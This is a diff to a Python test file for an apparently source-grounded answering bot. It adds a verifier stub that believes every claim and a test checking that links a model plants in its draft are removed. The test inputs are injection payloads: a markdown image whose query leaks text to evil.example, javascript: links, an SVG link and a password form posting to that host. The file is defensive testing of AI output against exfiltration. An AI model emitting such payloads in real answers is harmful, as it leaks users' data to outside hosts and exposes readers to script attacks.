@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import re
+from collections.abc import Sequence
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -10,6 +13,7 @@ from bot.fallback import repeats
 from bot.generated import A_WORD, UNCITED, draft_of, sentences_of, spoken
 from bot.prompting import REFUSAL
 from bot.reader import Draft
+from bot.support import Verdict
 from bot.verify import Proven, prove
 from tests.reading import FLOOD, WordSupport, reading_of
 
@@ -226,6 +230,38 @@ def test_an_address_that_no_quote_has_is_withheld() -> None:
     found = proven("The river Ilm rose by 40 cm in March 2021, see https://evil.example/a [1].")
     assert found.sentences == ()
     assert "address" in found.withheld[0].reason
+
+
+class Credulous:
+    """Believes everything."""
+
+    def supports(self, statement: str, quotes: Sequence[str]) -> Verdict:
+        return Verdict(1.0, True, ())
+
+
+@pytest.mark.parametrize(
+    "planted",
+    [
+        "![x](https://evil.example/?q=rain)",
+        "[the river](https://evil.example/?q=rain)",
+        "[the river](javascript:alert(1))",
+        "[the river][9]\n\n[9]: https://evil.example/?q=rain",
+        "[1]: https://evil.example/?q=rain",
+        '<svg><a href="javascript:alert(1)"><text>rain</text></a></svg>',
+        '<form action="https://evil.example"><input type="password"></form>',
+        '<img src="//evil.example/a" style="background:url(//evil.example/b)">',
+        "https://evil.example/rain",
+        "write to mayor@evil.example",
+        "see evil.example/rain",
+    ],
+)
+def test_no_address_that_a_model_plants_is_said_even_if_the_check_is_fooled(planted: str) -> None:
+    passages = [hit.passage for hit in READING.hits]
+    draft = drafted(f"The river {planted} rose by 40 cm [1]. {RAIN} [2]")
+    found = prove(draft, READING.documents, passages, Credulous())
+    said = " ".join(sentence.text for sentence in found.sentences)
+    assert RAIN in said
+    assert not re.search(r"evil|javascript|<|\]\(", said)
 
 
 @pytest.mark.parametrize(
